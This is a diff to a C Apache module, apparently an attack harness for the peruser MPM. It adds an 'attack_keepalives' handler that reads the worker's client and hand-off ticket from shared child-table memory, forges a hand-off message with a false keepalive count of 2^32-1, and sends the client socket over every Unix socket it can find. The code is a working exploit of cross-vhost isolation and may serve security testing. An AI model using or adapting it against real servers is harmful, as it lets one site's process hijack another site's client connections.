@@ -991,6 +991,75 @@ static void attack_empty(request_rec *r, int client_fd)
 }
 
 /* ------------------------------------------------------------------ */
+/* keepalives                                                           */
+/* ------------------------------------------------------------------ */
+
+/* ChildTable.swift: the current connection's client (high, then low) at 256 and its hand-off
+ * ticket at 272 of the worker's detail page. */
+#define CLIENT_OFFSET 256
+#define TICKET_OFFSET 272
+
+/* Hands this worker's own client connection back, with its true ticket and a request for
+ * b.test, saying it has already been kept alive for 2^32 - 1 answers. Nothing may reach the
+ * client from here (the connection is B's to answer now): the report goes to the error log,
+ * and the connection is marked aborted, so httpd writes nothing and does not shut it down. */
+static int attack_keepalives(request_rec *r, int client_fd)
+{
+    mapping maps[64];
+    int count = shared_state_mappings(maps, 64), i, sent = 0, first_err = 0;
+    uintptr_t detail = 0;
+    static unsigned char msg[MSG_HEADER + 256];
+    const char *b_request = "GET /cgi-bin/id.cgi?keepalives-lie HTTP/1.1\r\nHost: b.test\r\n\r\n";
+    uint64_t ticket, high, low;
+    uint32_t lie = 0xffffffffu;
+    size_t len;
+    int fds[256], socket_count = list_sockets(r, client_fd, fds, 256);
+
+    for (i = 0; i < count; i++) {
+        if (strchr(maps[i].perms, 'w') && strstr(maps[i].name, "peruser-child-table")
+            && maps[i].end - 4096 > detail) {
+            detail = maps[i].end - 4096;  /* the last writable page: this worker's detail page */
+        }
+    }
+    if (!detail || client_fd < 0) {
+        ap_log_rerror(APLOG_MARK, APLOG_ERR, 0, r, "peruser-attack keepalives: no detail page or client");
+        return HTTP_INTERNAL_SERVER_ERROR;
+    }
+    memcpy(&high, (void *)(detail + CLIENT_OFFSET), 8);
+    memcpy(&low, (void *)(detail + CLIENT_OFFSET + 8), 8);
+    memcpy(&ticket, (void *)(detail + TICKET_OFFSET), 8);
+    len = valid_message(msg, 0, b_request);
+    for (i = 0; i < 8; i++) {
+        msg[12 + i] = (unsigned char)(ticket >> (8 * i));
+        msg[20 + i] = (unsigned char)(high >> (56 - 8 * i));
+        msg[28 + i] = (unsigned char)(low >> (56 - 8 * i));
+    }
+    for (i = 0; i < 4; i++) {
+        msg[44 + i] = (unsigned char)(lie >> (8 * i));
+    }
+    for (i = 0; i < socket_count; i++) {
+        int domain = -1, rc;
+        socket_text(r->pool, fds[i], &domain, NULL);
+        if (domain != AF_UNIX) {
+            continue;
+        }
+        rc = send_with_fds(fds[i], msg, len, &client_fd, 1);
+        if (rc == 0) {
+            sent++;
+        }
+        else if (!first_err) {
+            first_err = rc;
+        }
+    }
+    ap_log_rerror(APLOG_MARK, APLOG_WARNING, 0, r,
+                  "peruser-attack keepalives: ticket %" APR_UINT64_T_HEX_FMT ", handed back on %d socket(s), "
+                  "first error %s", (apr_uint64_t)ticket, sent, errname(first_err));
+    r->connection->keepalive = AP_CONN_CLOSE;
+    r->connection->aborted = 1;
+    return DONE;
+}
+
+/* ------------------------------------------------------------------ */
 /* keepfd / readkept                                                    */
 /* ------------------------------------------------------------------ */
 
@@ -1294,6 +1363,9 @@ static int attack_handler(request_rec *r)
     }
     only_fds = args ? apr_table_get(args, "fd") : NULL;
     client_fd = client_fd_of(r);
+    if (strcmp(attack, "keepalives") == 0) {
+        return attack_keepalives(r, client_fd);  /* writes nothing to its client */
+    }
     ap_set_content_type(r, "text/plain");
     apr_table_setn(r->headers_out, "Cache-Control", "no-store");
     line(r, apr_psprintf(r->pool,
